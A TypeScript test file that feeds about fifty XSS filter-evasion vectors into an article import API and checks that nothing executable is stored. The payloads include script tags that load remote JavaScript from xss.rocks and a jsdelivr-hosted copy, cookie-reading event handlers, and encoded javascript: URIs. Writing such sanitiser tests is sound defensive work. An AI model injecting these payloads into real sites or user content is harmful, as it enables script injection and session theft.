import { ZArticle } from "@factmark/core";
import { describe, expect, it } from "vitest";
import { createTestApp } from "../test/createTestApp";
import { expectEditorDoc } from "../test/expectEditorDoc";

const { request } = await createTestApp();

/** XSS filter-evasion vectors from the OWASP cheat sheet, plus a few mutation-XSS classics. */
const VECTORS = [
  `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">decimal entities</a>`,
  `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">long decimal entities</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">hex entities</a>`,
  `<a href="jav\tascript:alert('XSS');">embedded tab</a>`,
  `<a href="jav&#x09;ascript:alert('XSS');">encoded tab</a>`,
  `<a href="jav&#x0A;ascript:alert('XSS');">encoded newline</a>`,
  `<a href=" &#14;  javascript:alert('XSS');">spaces and meta characters</a>`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<svg/onload=alert('XSS')>`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')"><TR><TD>cell</TD></TR></TABLE>`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">styled div</DIV>`,
  `<DIV STYLE="width: expression(alert('XSS'));">expression</DIV>`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">data link</a>`,
  `<a href="vbscript:msgbox('XSS')">vbscript link</a>`,
  `<a href="//evil.example/x">protocol-relative link</a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<a href="https://ok.example/" onclick="alert(1)" style="color:red" target="_top">kept link</a>`,
  `<p style="background:url(javascript:alert(1))">styled paragraph</p>`,
  `<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>`,
  `<details open ontoggle=alert(1)>details</details>`,
  `<video><source onerror="alert(1)"></video>`,
];

describe("sanitising imported HTML and Markdown", () => {
  it("tests at least 30 vectors", () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(30);
  });

  for (const format of ["html", "markdown"] as const) {
    it.each(VECTORS.map((vector, index) => [index + 1, vector] as const))(
      `${format}: vector %i leaves nothing executable in the stored document`,
      async (_index, vector) => {
        const content = `<p>Before the vector.</p>\n\n${vector}\n\n<p>After the vector.</p>`;
        const response = await request("POST", "/api/articles", { title: "XSS", format, content });
        expect(response.status).toBe(201);
        const created = ZArticle.parse(await response.json());
        expect(created.text).toContain("Before the vector.");
        const stored = ZArticle.parse(await (await request("GET", `/api/articles/${created.id}`)).json());
        expectEditorDoc(stored.doc);
      },
    );
  }

  it("keeps an http(s) link without its event handler, style or target", async () => {
    const response = await request("POST", "/api/articles", {
      title: "Link",
      format: "html",
      content: VECTORS.find((vector) => vector.includes("kept link")),
    });
    const article = ZArticle.parse(await response.json());
    expect(article.doc.content?.[0]?.content?.[0]).toEqual({
      type: "text",
      text: "kept link",
      marks: [{ type: "link", attrs: { href: "https://ok.example/" } }],
    });
  });
});
